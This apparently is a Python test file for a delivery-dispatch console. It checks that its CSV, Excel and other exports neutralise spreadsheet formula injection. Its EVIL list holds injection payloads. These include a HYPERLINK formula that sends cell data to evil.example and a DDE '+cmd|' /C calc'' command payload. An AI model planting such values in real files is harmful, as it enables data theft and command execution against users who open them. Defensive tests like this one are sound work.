"""Whatever merchants and drivers are called: no export holds a formula, and every file opens."""

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest

from console.analytics.tables import is_doubtful
from console.dispatch.exporting import Export, Form, export
from console.dispatch.figures import write_figures
from console.dispatch.fleetfile import write_fleet
from console.dispatch.station import Station
from console.domain.commands import AdoptSolution
from console.intake import Assumption, Reject
from console.ui.dialogs.rows import report_csv
from tests.dispatch.consoles import ORDERS, World, begun, journey, row

EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
    "ring; =1+1", "two|@SUM(1)",
)  # fmt: skip

PERSONAL = ("recipient", "phone", "email", "notes", "city", "postcode")

RUNS = re.compile(r"""[\s"]*([=@]|[+-](?![\d ]+$|\d+([.,]\d+)?$))""")
"""Said anew here: what spreadsheets take for a formula."""


def hostile(number: int) -> str:
    """A row whose every text is a formula."""
    texts = (EVIL[(number + i) % len(EVIL)] for i in range(9))
    quoted = ('"' + text.replace('"', '""') + '"' for text in texts)
    names = [name for name in ORDERS.split(",") if name in PERSONAL]
    return row(f"=o{number}", f"Weg {9 * number + 9}", **dict(zip(names, quoted, strict=False)))


async def planned(station: Station, world: World) -> None:
    drivers = ("=1+1", "@Bo")
    await begun(station, world, *(hostile(i) for i in range(6)), drivers=drivers)
    stops, routes = list(station.picture.plan.stops), list(station.picture.plan.routes)
    halves = ((routes[0], tuple(stops[:2])), (routes[1], tuple(stops[2:4])))
    await station.submit(AdoptSolution(halves))


def csv_cells(path: Path) -> Iterator[str]:
    """The cells as each spreadsheet cuts them, whatever its country."""
    text = path.read_text("utf-8-sig")
    for delimiter in ",;\t":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from line


def test_no_export_holds_a_formula(tmp_path: Path) -> None:
    world = World(tmp_path)
    out = tmp_path / "out"

    @journey
    async def run() -> None:
        with world.console() as station:
            await planned(station, world)
            for form in Form:
                await export(station, Export(form, out / f"{form}{form.suffix}"))
            await write_fleet(station, out / "fleet.csv")
            await write_fleet(station, out / "fleet.xlsx")
            write_figures(station.picture, out / "figures.csv")

    run()
    (out / "report.csv").write_text(
        report_csv(
            [Reject(n, text, "street", text) for n, text in enumerate(EVIL)],
            [Assumption("street", text, (1,), text) for text in EVIL],
        ),
        "utf-8",
    )
    looked_at = 0
    for file in sorted(out.glob("*.csv")):
        for cell in csv_cells(file):
            looked_at += 1
            assert not RUNS.match(cell), f"{file.name}: {cell}"
    assert looked_at > 300
    _check_workbooks(out)
    _check_others(out)


def _check_workbooks(out: Path) -> None:
    seen = 0
    for file in sorted(out.glob("*.xlsx")):
        for sheet in openpyxl.load_workbook(file):
            for cell in (cell for line in sheet.iter_rows() for cell in line):
                assert cell.data_type != "f", f"{file.name} {cell.coordinate}"
                if isinstance(cell.value, str) and is_doubtful(cell.value):
                    assert cell.quotePrefix, f"{file.name} {cell.coordinate}"
                    seen += 1
    assert seen > 10


def _check_others(out: Path) -> None:
    for file in out.glob("*.gpx"):
        assert re.fullmatch(r"[\w.-]+", file.name)
        assert ET.parse(file).getroot().tag.endswith("gpx")
    for file in (*out.glob("*.json"), *out.glob("*.geojson")):
        json.loads(file.read_text("utf-8"))
    assert (out / "pdf.pdf").read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize("text", EVIL)
def test_the_texts_are_what_they_should_be(text: str) -> None:
    """Else the test above would find nothing in nothing."""
    assert any(is_doubtful(part) for part in re.split(r"[;|]", text))
